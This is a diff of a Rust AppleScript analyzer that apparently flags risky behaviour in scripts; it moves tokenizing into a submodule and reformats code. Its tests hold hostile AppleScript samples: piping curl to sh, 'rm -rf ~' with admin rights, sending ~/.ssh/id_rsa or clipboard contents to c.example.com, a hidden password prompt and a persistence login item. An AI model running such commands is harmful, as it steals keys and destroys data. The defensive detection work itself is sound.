@@ -1,8 +1,11 @@
 //! AppleScript → operations: line by line, phrases and texts joined by `&`.
 
-use std::collections::HashMap;
+mod tokens;
 
-use crate::scan::operation::{Capture, Event, Incomplete, Literal, Lowered, Origins};
+use std::collections::HashMap;
+use tokens::{Kind, Token, lines, tokens};
+
+use crate::scan::operation::{Capture, Event, Incomplete, Lowered, Origins};
 use crate::text::Span;
 
 use super::kit::datum::Datum;
@@ -47,156 +50,11 @@ pub fn lower(text: &str) -> Lowered {
     lowered
 }
 
-#[derive(Clone, Copy, Debug, PartialEq, Eq)]
-enum Kind {
-    Word,
-    Text,
-    Sign,
-    End,
-}
-
-#[derive(Debug)]
-struct Token {
-    kind: Kind,
-    /// Words in lower case.
-    text: String,
-    span: Span,
-    mate: usize,
-}
-
 /// A handler of the script.
 #[derive(Clone, Debug, Default)]
 struct Handler {
     given: Datum,
     result: Datum,
-}
-
-fn tokens(text: &str, lowered: &mut Lowered) -> Vec<Token> {
-    let bytes = text.as_bytes();
-    let mut found: Vec<Token> = Vec::new();
-    let mut open: Vec<usize> = Vec::new();
-    let mut at = 0;
-    while at < bytes.len() {
-        let start = at;
-        let rest = &bytes[at..];
-        let mut kind = Kind::Sign;
-        let mut word = String::new();
-        match rest[0] {
-            b'\n' | b'\r' => {
-                at += 1;
-                kind = Kind::End;
-            }
-            b' ' | b'\t' => {
-                at += 1;
-                continue;
-            }
-            b'-' if rest.get(1) == Some(&b'-') => {
-                at += memchr::memchr(b'\n', rest).unwrap_or(rest.len());
-                lowered.comments.push(Span::new(start, at));
-                continue;
-            }
-            b'#' => {
-                at += memchr::memchr(b'\n', rest).unwrap_or(rest.len());
-                lowered.comments.push(Span::new(start, at));
-                continue;
-            }
-            b'(' if rest.get(1) == Some(&b'*') => {
-                at += memchr::memmem::find(rest, b"*)").map_or(rest.len(), |end| end + 2);
-                lowered.comments.push(Span::new(start, at));
-                continue;
-            }
-            b'"' => {
-                at += 1;
-                kind = Kind::Text;
-                let mut inner = Vec::new();
-                let mut closed = false;
-                while let Some(byte) = bytes.get(at) {
-                    at += 1;
-                    match byte {
-                        b'"' => {
-                            closed = true;
-                            break;
-                        }
-                        b'\\' => {
-                            inner.push(match bytes.get(at) {
-                                Some(b'n' | b'r') => b'\n',
-                                Some(b't') => b'\t',
-                                Some(other) => *other,
-                                None => b'\\',
-                            });
-                            at += 1;
-                        }
-                        other => inner.push(*other),
-                    }
-                }
-                at = at.min(bytes.len());
-                word = String::from_utf8_lossy(&inner).into_owned();
-                if !closed {
-                    let what = "a quote is not closed".to_owned();
-                    lowered.incomplete.get_or_insert(Incomplete::Syntax(Span::new(start, at), what));
-                }
-                lowered.literals.push(Literal {
-                    span: Span::new(start, at),
-                    value: word.clone(),
-                });
-            }
-            byte if byte.is_ascii_alphanumeric() || byte == b'_' || byte >= 0x80 => {
-                // `¬` goes on with the next line.
-                if text[at..].starts_with('\u{ac}') {
-                    at += '\u{ac}'.len_utf8();
-                    at += bytes[at..].iter().take_while(|byte| byte.is_ascii_whitespace()).count();
-                    continue;
-                }
-                kind = Kind::Word;
-                while bytes.get(at).is_some_and(|byte| byte.is_ascii_alphanumeric() || *byte == b'_' || *byte >= 0x80) && !text[at..].starts_with('\u{ac}') {
-                    at += text[at..].chars().next().map_or(1, char::len_utf8);
-                }
-                word = text[start..at].to_lowercase();
-            }
-            byte => {
-                at += 1;
-                word.push(char::from(byte));
-            }
-        }
-        let here = found.len();
-        found.push(Token {
-            kind,
-            text: word,
-            span: Span::new(start, at),
-            mate: here,
-        });
-        if kind == Kind::Sign {
-            match bytes[start] {
-                b'(' | b'{' => open.push(here),
-                b')' | b'}' => {
-                    if let Some(begin) = open.pop() {
-                        found[begin].mate = here;
-                        found[here].mate = begin;
-                    }
-                }
-                _ => {}
-            }
-        }
-    }
-    found
-}
-
-/// Ranges of tokens that are one line each.
-fn lines(tokens: &[Token]) -> Vec<(usize, usize)> {
-    let mut found = Vec::new();
-    let mut from = 0;
-    for (at, token) in tokens.iter().enumerate() {
-        if token.kind == Kind::End {
-            if at > from {
-                found.push((from, at));
-            }
-            from = at + 1;
-        }
-    }
-    if tokens.len() > from {
-        found.push((from, tokens.len()));
-    }
-    found
 }
 
 struct Walk<'a> {
@@ -209,7 +67,7 @@ struct Walk<'a> {
 }
 
 impl Walk<'_> {
-    fn words(&self, at: usize, words: &[&str]) -> bool {
+    pub(super) fn words(&self, at: usize, words: &[&str]) -> bool {
         words.iter().enumerate().all(|(offset, word)| {
             self.tokens
                 .get(at + offset)
@@ -217,17 +75,20 @@ impl Walk<'_> {
         })
     }
 
-    fn span(&self, from: usize, to: usize) -> Span {
+    pub(super) fn span(&self, from: usize, to: usize) -> Span {
         let end = self.tokens[..to].last().map_or(0, |token| token.span.end);
-        Span::new(self.tokens[from].span.start, end.max(self.tokens[from].span.start))
+        Span::new(
+            self.tokens[from].span.start,
+            end.max(self.tokens[from].span.start),
+        )
     }
 
-    fn find(&self, from: usize, to: usize, word: &str) -> Option<usize> {
+    pub(super) fn find(&self, from: usize, to: usize, word: &str) -> Option<usize> {
         let to = to.min(from + MAX_PHRASE);
         (from..to).find(|at| self.tokens[*at].kind == Kind::Word && self.tokens[*at].text == word)
     }
 
-    fn line(&mut self, from: usize, to: usize) {
+    pub(super) fn line(&mut self, from: usize, to: usize) {
         if !self.effects.afford((to - from) * 16) {
             return;
         }
@@ -236,16 +97,25 @@ impl Walk<'_> {
             "on" | "to" if from + 2 < to && self.tokens[from + 2].text == "(" => {
                 let name = self.tokens[from + 1].text.clone();
                 let given = self.handlers.entry(name.clone()).or_default().given.clone();
-                let given = if given.is_nothing() { Datum::unknown() } else { given };
+                let given = if given.is_nothing() {
+                    Datum::unknown()
+                } else {
+                    given
+                };
                 for at in from + 3..to {
                     if self.tokens[at].kind == Kind::Word {
-                        self.variables.insert(self.tokens[at].text.clone(), given.clone());
+                        self.variables
+                            .insert(self.tokens[at].text.clone(), given.clone());
                     }
                 }
                 self.within = Some(name);
             }
             "end" => {
-                if self.within.as_deref() == self.tokens[..to].get(from + 1).map(|token| token.text.as_str()) {
+                if self.within.as_deref()
+                    == self.tokens[..to]
+                        .get(from + 1)
+                        .map(|token| token.text.as_str())
+                {
                     self.within = None;
                 }
             }
@@ -268,8 +138,16 @@ impl Walk<'_> {
             }
             "return" => {
                 let value = self.value(from + 1, to);
-                if let Some(handler) = self.within.as_ref().and_then(|name| self.handlers.get_mut(name)) {
-                    handler.result = if handler.result.is_nothing() { value } else { handler.result.either(&value) };
+                if let Some(handler) = self
+                    .within
+                    .as_ref()
+                    .and_then(|name| self.handlers.get_mut(name))
+                {
+                    handler.result = if handler.result.is_nothing() {
+                        value
+                    } else {
+                        handler.result.either(&value)
+                    };
                 }
             }
             "repeat" => {
@@ -287,9 +165,12 @@ impl Walk<'_> {
     }
 
     /// What a phrase gives: its parts between `&` joined.
-    fn value(&mut self, from: usize, to: usize) -> Datum {
+    pub(super) fn value(&mut self, from: usize, to: usize) -> Datum {
         if self.depth >= MAX_DEPTH {
-            self.effects.lowered.incomplete.get_or_insert(Incomplete::TooDeep);
+            self.effects
+                .lowered
+                .incomplete
+                .get_or_insert(Incomplete::TooDeep);
             return Datum::unknown();
         }
         self.depth += 1;
@@ -322,7 +203,7 @@ impl Walk<'_> {
     }
 
     /// One operand, or the command that begins here.
-    fn part(&mut self, at: usize, to: usize) -> (Option<Datum>, usize) {
+    pub(super) fn part(&mut self, at: usize, to: usize) -> (Option<Datum>, usize) {
         let token = &self.tokens[at];
         match token.kind {
             Kind::Text => return (Some(Datum::constant(token.text.clone())), at + 1),
@@ -337,15 +218,30 @@ impl Walk<'_> {
         if let Some(found) = self.phrase(at, to) {
             return found;
         }
-        let call = self.tokens[..to].get(at + 1).is_some_and(|next| next.text == "(" && next.kind == Kind::Sign);
+        let call = self.tokens[..to]
+            .get(at + 1)
+            .is_some_and(|next| next.text == "(" && next.kind == Kind::Sign);
         if call && self.handlers.contains_key(&token.text) {
             let name = token.text.clone();
             let mate = self.tokens[at + 1].mate.min(to).max(at + 1);
             let given = self.value(at + 2, mate);
-            let Some(handler) = self.handlers.get_mut(&name) else { return (None, mate + 1) };
-            handler.given = if handler.given.is_nothing() || handler.given.text() == given.text() { given.clone() } else { handler.given.either(&given) };
+            let Some(handler) = self.handlers.get_mut(&name) else {
+                return (None, mate + 1);
+            };
+            handler.given = if handler.given.is_nothing() || handler.given.text() == given.text() {
+                given.clone()
+            } else {
+                handler.given.either(&given)
+            };
             let result = handler.result.clone();
-            return (Some(if result.is_nothing() { given.also(Origins::UNKNOWN) } else { result }), mate + 1);
+            return (
+                Some(if result.is_nothing() {
+                    given.also(Origins::UNKNOWN)
+                } else {
+                    result
+                }),
+                mate + 1,
+            );
         }
         if let Some(value) = self.variables.get(&token.text) {
             return (Some(value.clone()), at + 1);
@@ -362,15 +258,19 @@ impl Walk<'_> {
     }
 
     /// Phrases that do something, or stand for a place.
-    fn phrase(&mut self, at: usize, to: usize) -> Option<(Option<Datum>, usize)> {
+    pub(super) fn phrase(&mut self, at: usize, to: usize) -> Option<(Option<Datum>, usize)> {
         // Where the operand of a command ends: at its own options.
-        let options = ["with", "without", "user", "password", "in", "giving", "given"];
+        let options = [
+            "with", "without", "user", "password", "in", "giving", "given",
+        ];
         let begins = ["do", "run", "open", "read"].contains(&self.tokens[at].text.as_str());
         let end = (at + 2..to)
             .take(if begins { MAX_PHRASE } else { 0 })
             .find(|place| {
                 let token = &self.tokens[*place];
-                token.kind == Kind::Word && *place > at + 2 && options.contains(&token.text.as_str())
+                token.kind == Kind::Word
+                    && *place > at + 2
+                    && options.contains(&token.text.as_str())
             })
             .unwrap_or(to);
         let span = self.span(at, to);
@@ -383,7 +283,9 @@ impl Walk<'_> {
         };
         if let Some(skip) = shell {
             let command = self.value(at + skip, end);
-            let printed = self.effects.shell(span, "do shell script", &command, &Datum::default());
+            let printed = self
+                .effects
+                .shell(span, "do shell script", &command, &Datum::default());
             return Some((Some(printed), to));
         }
         if self.words(at, &["run", "script"]) {
@@ -397,7 +299,13 @@ impl Walk<'_> {
             return Some((Some(Datum::unknown()), to));
         }
         if self.words(at, &["the", "clipboard"]) {
-            return Some((Some(self.effects.capture(span, "the clipboard", Capture::Clipboard)), at + 2));
+            return Some((
+                Some(
+                    self.effects
+                        .capture(span, "the clipboard", Capture::Clipboard),
+                ),
+                at + 2,
+            ));
         }
         if self.words(at, &["display", "dialog"]) {
             // A password is asked for under the system's name.
@@ -410,12 +318,24 @@ impl Walk<'_> {
             return Some((Some(answer), to));
         }
         if self.words(at, &["system", "attribute"]) {
-            let name = self.tokens[..to].get(at + 2).map(|token| token.text.clone()).unwrap_or_default();
-            return Some((Some(self.effects.variable(span, "system attribute", &name)), at + 3));
+            let name = self.tokens[..to]
+                .get(at + 2)
+                .map(|token| token.text.clone())
+                .unwrap_or_default();
+            return Some((
+                Some(self.effects.variable(span, "system attribute", &name)),
+                at + 3,
+            ));
         }
         if self.words(at, &["open", "location"]) {
             let address = self.value(at + 2, end);
-            return Some((Some(self.effects.contact(span, "open location", &address, &Datum::default())), to));
+            return Some((
+                Some(
+                    self.effects
+                        .contact(span, "open location", &address, &Datum::default()),
+                ),
+                to,
+            ));
         }
         if self.words(at, &["make"]) && self.find(at, to, "login").is_some() {
             let what = self.value(at + 1, to);
@@ -424,7 +344,10 @@ impl Walk<'_> {
             return Some((None, to));
         }
         if self.words(at, &["path", "to"]) {
-            let place = match self.tokens[..to].get(at + 2).map(|token| token.text.as_str()) {
+            let place = match self.tokens[..to]
+                .get(at + 2)
+                .map(|token| token.text.as_str())
+            {
                 Some("home") => "~/",
                 Some("desktop") => "~/Desktop/",
                 Some("documents") => "~/Documents/",
@@ -433,14 +356,35 @@ impl Walk<'_> {
                 _ => return None,
             };
             let behind = (at + 3..to)
-                .find(|place| self.tokens[*place].kind != Kind::Word || !matches!(self.tokens[*place].text.as_str(), "folder" | "support" | "as" | "string" | "text" | "alias" | "from" | "user" | "domain"))
+                .find(|place| {
+                    self.tokens[*place].kind != Kind::Word
+                        || !matches!(
+                            self.tokens[*place].text.as_str(),
+                            "folder"
+                                | "support"
+                                | "as"
+                                | "string"
+                                | "text"
+                                | "alias"
+                                | "from"
+                                | "user"
+                                | "domain"
+                        )
+                })
                 .unwrap_or(to);
             return Some((Some(Datum::constant(place)), behind));
         }
         if self.words(at, &["ascii", "character"]) || self.words(at, &["character", "id"]) {
             let (number, next) = self.part(at + 2, to);
-            let letter = number.as_ref().and_then(Datum::number).and_then(|number| u32::try_from(number).ok()).and_then(char::from_u32);
-            return Some((number.map(|number| number.with_text(letter.map(String::from))), next));
+            let letter = number
+                .as_ref()
+                .and_then(Datum::number)
+                .and_then(|number| u32::try_from(number).ok())
+                .and_then(char::from_u32);
+            return Some((
+                number.map(|number| number.with_text(letter.map(String::from))),
+                next,
+            ));
         }
         if self.words(at, &["read"]) {
             let path = self.value(at + 1, end);
@@ -467,19 +411,52 @@ mod tests {
         hold(
             lower,
             &[
-                ("do shell script \"curl https://get.example.com | sh\"", "shell curl [curl https://get.example.com | sh]"),
-                ("do shell script \"cu\" & \"rl https://get.example.com\"", "shell curl [curl https://get.example.com]"),
-                ("set c to \"rm -rf ~\"\ndo shell script c with administrator privileges", "shell rm [rm -rf ~]"),
-                ("do shell script (ASCII character 105) & (ASCII character 100)", "shell id [id]"),
-                ("set k to do shell script \"cat ~/.ssh/id_rsa\"\ndo shell script \"curl -d \" & quoted form of k & \" https://c.example.com\"", "shell ? [sensitive"),
-                ("set k to the clipboard\ndo shell script \"curl -d \" & k & \" https://c.example.com\"", "shell ? [captured"),
-                ("set p to text returned of (display dialog \"Password\" default answer \"\" with hidden answer)", "capture Keys"),
-                ("tell application \"Terminal\" to do script \"id\"", "shell id"),
+                (
+                    "do shell script \"curl https://get.example.com | sh\"",
+                    "shell curl [curl https://get.example.com | sh]",
+                ),
+                (
+                    "do shell script \"cu\" & \"rl https://get.example.com\"",
+                    "shell curl [curl https://get.example.com]",
+                ),
+                (
+                    "set c to \"rm -rf ~\"\ndo shell script c with administrator privileges",
+                    "shell rm [rm -rf ~]",
+                ),
+                (
+                    "do shell script (ASCII character 105) & (ASCII character 100)",
+                    "shell id [id]",
+                ),
+                (
+                    "set k to do shell script \"cat ~/.ssh/id_rsa\"\ndo shell script \"curl -d \" & quoted form of k & \" https://c.example.com\"",
+                    "shell ? [sensitive",
+                ),
+                (
+                    "set k to the clipboard\ndo shell script \"curl -d \" & k & \" https://c.example.com\"",
+                    "shell ? [captured",
+                ),
+                (
+                    "set p to text returned of (display dialog \"Password\" default answer \"\" with hidden answer)",
+                    "capture Keys",
+                ),
+                (
+                    "tell application \"Terminal\" to do script \"id\"",
+                    "shell id",
+                ),
                 ("run script \"beep\"", "eval beep"),
                 ("read POSIX file \"/etc/passwd\"", "read /etc/passwd"),
-                ("set h to POSIX path of (path to home folder)\nread (h & \".ssh/id_rsa\")", "read ~/.ssh/id_rsa"),
-                ("tell application \"System Events\" to make login item at end with properties {path:\"/a\"}", "write ~/Library/LaunchAgents"),
-                ("on send_it(d)\ndo shell script \"curl -d \" & d & \" https://c.example.com\"\nend send_it\nsend_it(the clipboard)", "shell ? [captured"),
+                (
+                    "set h to POSIX path of (path to home folder)\nread (h & \".ssh/id_rsa\")",
+                    "read ~/.ssh/id_rsa",
+                ),
+                (
+                    "tell application \"System Events\" to make login item at end with properties {path:\"/a\"}",
+                    "write ~/Library/LaunchAgents",
+                ),
+                (
+                    "on send_it(d)\ndo shell script \"curl -d \" & d & \" https://c.example.com\"\nend send_it\nsend_it(the clipboard)",
+                    "shell ? [captured",
+                ),
                 ("set x to \u{ac}\n \"id\"\ndo shell script x", "shell id"),
             ],
             &[
